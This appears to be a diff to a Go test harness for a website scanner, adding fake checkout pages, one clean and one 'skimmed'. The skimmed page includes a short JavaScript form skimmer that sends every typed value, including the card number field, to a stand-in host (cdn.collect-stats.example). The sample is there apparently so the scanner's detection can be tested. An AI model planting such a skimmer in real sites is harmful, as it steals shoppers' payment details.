@@ -101,7 +101,23 @@ func (s *scriptSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 
 var scriptFiles = map[string]map[string]string{
 	"weak": {"/.git/HEAD": "ref: refs/heads/main\n", "/.git/config": "[core]\n\tbare = false\n"},
-	"safe": {}, "stuck": {}, "echo": {}, "member": {}, "login": {}, "sso": {},
+	"safe": {}, "stuck": {}, "echo": {}, "member": {}, "login": {}, "sso": {}, "checkout": {}, "skimmed": {},
+}
+
+// checkoutShop has a page where people pay, with more in its head, and a script.
+func checkoutShop(more, script string) http.Handler {
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/checkout":
+			w.Header().Set("Content-Type", "text/html; charset=utf-8")
+			fmt.Fprintf(w, `<html><head><title>Checkout</title><script src="/assets/app-3f2a9c1b.js"></script>%s</head><body><form method="post" action="/pay"><input name="card_number" autocomplete="cc-number"></form></body></html>`, more)
+		case "/assets/app-3f2a9c1b.js":
+			w.Header().Set("Content-Type", "text/javascript")
+			fmt.Fprint(w, script)
+		default:
+			demoShop(nil).ServeHTTP(w, r)
+		}
+	})
 }
 
 // scriptHandlers serve the sites that are no shops.
@@ -110,6 +126,9 @@ var scriptHandlers = map[string]http.Handler{
 		w.Header().Set("WWW-Authenticate", `Basic realm="members"`)
 		http.Error(w, "Unauthorized", http.StatusUnauthorized)
 	}),
+	"checkout": checkoutShop("", "var app = 1;"),
+	"skimmed": checkoutShop(`<script src="https://cdn.collect-stats.example/a.js"></script>`,
+		`addEventListener("input", function (e) { new Image().src = "https://cdn.collect-stats.example/i?" + e.target.value; });`),
 	"sso": http.RedirectHandler("https://sso.example/login", http.StatusFound),
 }
 
@@ -122,7 +141,7 @@ func scriptSites(ts *testscript.TestScript) map[string]*scriptSite {
 
 func startScriptSite(ts *testscript.TestScript, _ bool, args []string) {
 	if len(args) != 1 {
-		ts.Fatalf("usage: site weak|safe|stuck|echo|member|closed|login|sso")
+		ts.Fatalf("usage: site weak|safe|stuck|echo|member|closed|login|sso|checkout|skimmed")
 	}
 	name := args[0]
 	if name == "closed" {
@@ -147,6 +166,7 @@ func startScriptSite(ts *testscript.TestScript, _ bool, args []string) {
 	})
 	scriptSites(ts)[name] = site
 	ts.Setenv(name, server.URL)
+	ts.Setenv(name+"_at", server.Listener.Addr().String())
 }
 
 // closedSite is an address that refuses connections for as long as the script runs: the near end of a connection.
